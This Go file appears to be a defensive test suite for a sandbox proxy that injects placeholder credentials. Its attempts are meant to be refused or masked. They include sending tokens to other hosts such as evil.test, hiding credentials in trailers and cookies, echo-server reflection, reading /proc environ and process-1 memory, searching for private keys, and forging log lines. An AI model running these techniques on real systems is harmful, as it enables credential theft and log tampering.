package main

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
)

// The placeholder of the github service.
const githubPlaceholder = "gho_sbxproxymanaged000000000000000000000"

func secretAttempts() []attempt {
	refused := func(target string, header ...string) func(context.Context, *attacker) (string, error) {
		return func(ctx context.Context, a *attacker) (string, error) {
			for i := range header {
				header[i] = strings.ReplaceAll(header[i], "PLACEHOLDER", a.Placeholder)
			}
			return a.denied(ctx, "GET", strings.ReplaceAll(target, "PLACEHOLDER", a.Placeholder), header...)
		}
	}
	// The server of echo.test sends back what it got. The test looks for the value in all that an attempt prints.
	echo := func(method, path, want string, header ...string) func(context.Context, *attacker) (string, error) {
		return func(ctx context.Context, a *attacker) (string, error) {
			for i := range header {
				header[i] = strings.ReplaceAll(header[i], "PLACEHOLDER", a.Placeholder)
				header[i] = strings.ReplaceAll(header[i], "PASSWORD", base64.StdEncoding.EncodeToString([]byte("me:"+a.Placeholder)))
			}
			resp, body, err := a.get(ctx, method, "https://echo.test"+path, header...)
			if err != nil {
				return "", err
			}
			text := fmt.Sprint(resp.StatusCode, resp.Header, resp.Trailer, body)
			if !strings.Contains(text, want) {
				return "", fmt.Errorf("no sign of the value having been masked: %s", text)
			}
			return text, nil
		}
	}
	list := []attempt{
		{name: "placeholder-elsewhere", what: "a placeholder to a host that it is not bound to", try: refused("https://open.test/", "X-Key: PLACEHOLDER"), host: "open.test:443", reason: "not bound to this host"},
		{name: "placeholder-service-elsewhere", what: "a service's placeholder to another host", try: refused("https://open.test/", "Authorization: Bearer "+githubPlaceholder), host: "open.test:443", reason: "not bound to this host"},
		{name: "placeholder-plain", what: "a placeholder to its host without TLS", try: refused("http://plain.test/", "X-Key: PLACEHOLDER"), host: "plain.test:80", reason: "not sent without TLS"},
		{name: "placeholder-url", what: "a placeholder in the address, where servers log it", try: refused("https://echo.test/?k=PLACEHOLDER"), host: "echo.test:443", reason: "Placeholder in the URL"},
		{name: "placeholder-unknown", what: "a made-up placeholder", try: refused("https://api.github.com/", "Authorization: Bearer sbx-cs-AAAAAAAAAAAAAAAA"), host: "api.github.com:443", reason: "placeholder"},
		{name: "foreign-bearer", what: "a token of somebody else's to a bound host, to carry data to their account", try: refused("https://api.github.com/", "Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345"), host: "api.github.com:443", reason: "Foreign credential"},
		{name: "foreign-basic", what: "the same as a password", try: refused("https://api.github.com/", "Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte("mallory:ghp_0123456789"))), host: "api.github.com:443", reason: "Foreign credential"},
		{name: "foreign-key-header", what: "the same in another header", try: refused("https://api.github.com/", "X-Api-Key: 0123456789"), host: "api.github.com:443", reason: "Foreign credential"},
		{name: "foreign-query", what: "the same in the address", try: refused("https://api.github.com/?access_token=ghp_0123456789"), host: "api.github.com:443", reason: "Credential in the query"},
		{name: "foreign-cookie", what: "somebody's session", try: refused("https://github.com/", "Cookie: a=b; user_session=0123"), host: "github.com:443", reason: "Foreign credential in a cookie"},
		{name: "two-credentials", what: "a placeholder and a foreign credential in one repeated header", try: refused("https://api.github.com/", "Authorization: Bearer "+githubPlaceholder, "Authorization: Bearer ghp_0123456789"), host: "api.github.com:443", reason: "Repeated Authorization"},
		{name: "foreign-trailer", what: "a foreign credential, or a Host, behind the body", try: func(ctx context.Context, a *attacker) (string, error) {
			return each([]string{"Authorization: Bearer ghp_0123456789", "Host: evil.test"}, func(trailer string) (string, error) {
				name, _, _ := strings.Cut(trailer, ":")
				return a.inside(ctx, "api.github.com:443", "api.github.com", "POST / HTTP/1.1\r\nHost: api.github.com\r\nTrailer: "+name+"\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n"+trailer+"\r\n\r\n")
			})
		}, host: "api.github.com:443", reason: "in a trailer"},
		{name: "placeholder-trailer", what: "a placeholder behind the body, where nothing is filled in", try: func(ctx context.Context, a *attacker) (string, error) {
			return a.inside(ctx, "echo.test:443", "echo.test", "POST / HTTP/1.1\r\nHost: echo.test\r\nTrailer: X-Key\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-Key: "+a.Placeholder+"\r\n\r\n")
		}, host: "echo.test:443", reason: "Placeholder in the X-Key trailer"},
		{name: "connection-header", what: "naming a placeholder's header as one of this hop only: it goes no further, filled in or not", try: func(ctx context.Context, a *attacker) (string, error) {
			c, err := a.secure(ctx, "echo.test:443", "echo.test", "http/1.1")
			if err != nil {
				return "", err
			}
			defer c.Close()
			fmt.Fprintf(c, "GET /echo HTTP/1.1\r\nHost: echo.test\r\nConnection: close, x-key\r\nX-Key: %s\r\n\r\n", a.Placeholder)
			return drain(c)
		}},
		{name: "echo-header", what: "a server that sends the value back in a header", try: echo("GET", "/echo", "***", "X-Key: PLACEHOLDER")},
		{name: "echo-name", what: "the same as the name of a header", try: echo("GET", "/echo-name", "SERVER", "X-Key: PLACEHOLDER")},
		{name: "echo-basic", what: "a server that sends the value back encoded, as it got it", try: echo("GET", "/echo", "***", "Authorization: Basic PASSWORD")},
		{name: "echo-basic-body", what: "the same in a body", try: echo("GET", "/echo-body", "****", "Authorization: Basic PASSWORD")},
		{name: "echo-body", what: "a server that sends the value back in a body", try: echo("GET", "/echo-body", "****", "X-Key: PLACEHOLDER")},
		{name: "echo-body-pieces", what: "the same a few bytes at a time", try: echo("GET", "/echo-pieces", "****", "X-Key: PLACEHOLDER")},
		{name: "echo-body-compressed", what: "the same, with compression asked for", try: echo("GET", "/echo-gzip", "****", "X-Key: PLACEHOLDER", "Accept-Encoding: gzip")},
		{name: "echo-trailer", what: "the same in a trailer", try: echo("GET", "/echo-trailer", "***", "X-Key: PLACEHOLDER")},
		{name: "echo-trace", what: "TRACE, which is answered with the request", try: echo("TRACE", "/echo-body", "****", "X-Key: PLACEHOLDER")},
		{name: "redirect", what: "a redirect of a bound host to another, followed with the placeholder", try: func(ctx context.Context, a *attacker) (string, error) {
			resp, _, err := a.get(ctx, "GET", "https://echo.test/redirect", "X-Key: "+a.Placeholder)
			if err != nil {
				return "", err
			}
			return a.denied(ctx, "GET", resp.Header.Get("Location"), "X-Key: "+a.Placeholder)
		}, host: "evil.test:443", reason: denied},
		{name: "environment", what: "the value in the environment of any process", try: func(context.Context, *attacker) (string, error) {
			files, err := filepath.Glob("/proc/[0-9]*/environ")
			if err != nil || len(files) == 0 {
				return "", fmt.Errorf("%d processes, %w", len(files), err)
			}
			return dump(files...)
		}},
		{name: "memory-of-init", what: "the value in the memory of process 1", try: func(context.Context, *attacker) (string, error) {
			f, err := os.Open("/proc/1/mem")
			if err != nil {
				return err.Error(), nil
			}
			defer f.Close()
			buf := make([]byte, 1<<20)
			if n, err := f.ReadAt(buf, 0x400000); err != nil {
				return err.Error(), nil
			} else if n > 0 {
				return string(buf[:n]), nil // the test looks for the value in it
			}
			return "empty", nil
		}},
		{name: "keys", what: "the key of the proxy's authority, in any file that programs trust or that came with the sandbox", try: func(context.Context, *attacker) (string, error) {
			looked := 0
			for _, dir := range []string{"/etc", "/run", "/.sbx", "/home", "/root", "/tmp", "/var"} {
				filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
					if err != nil || !d.Type().IsRegular() {
						return nil
					}
					data, err := os.ReadFile(path)
					looked++
					if err == nil && strings.Contains(string(data), "PRIVATE KEY-----") && !strings.Contains(string(data), "\x7fELF") {
						dir = path
						return io.EOF
					}
					return nil
				})
				if strings.Count(dir, "/") > 1 && dir != "/.sbx" {
					return "", fmt.Errorf("%s holds a private key", dir)
				}
			}
			if looked < 5 {
				return "", fmt.Errorf("only %d files were looked at", looked)
			}
			return fmt.Sprintf("none in %d files", looked), nil
		}},
		{name: "log-injection", what: "line ends, colours and quotes in what is logged: path, method, name, server name", try: func(ctx context.Context, a *attacker) (string, error) {
			const forged = "{\"time\":\"2026-01-01T00:00:00Z\",\"sandbox\":\"forged\",\"host\":\"forged.test:443\",\"allowed\":true}"
			return all(
				func() (string, error) {
					return a.denied(ctx, "GET", "http://evil.test/%0a"+strings.ReplaceAll(forged, "\"", "%22")+"%0a%1b[2J")
				},
				func() (string, error) {
					return a.raw(ctx, "GET http://evil.test/a HTTP/1.1\r\nHost: evil.test\n"+forged+"\n\r\n\r\n")
				},
				func() (string, error) {
					return a.raw(ctx, "GET http://evil.test\x1b[2J/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")
				},
				func() (string, error) {
					return a.raw(ctx, "X"+forged+" http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")
				},
				func() (string, error) { return a.inside(ctx, "api.github.com:443", "evil.test\n"+forged, "") },
			)
		}, host: "evil.test:80", reason: denied},
	}
	return grouped(groupSecrets, list)
}

// dump returns what can be read of files.
func dump(files ...string) (string, error) {
	var b strings.Builder
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			fmt.Fprintln(&b, err)
			continue
		}
		b.Write(data)
	}
	return b.String(), nil
}

func appendFile(path, text string) error {
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(text)
	if e := f.Close(); err == nil {
		err = e
	}
	return err
}
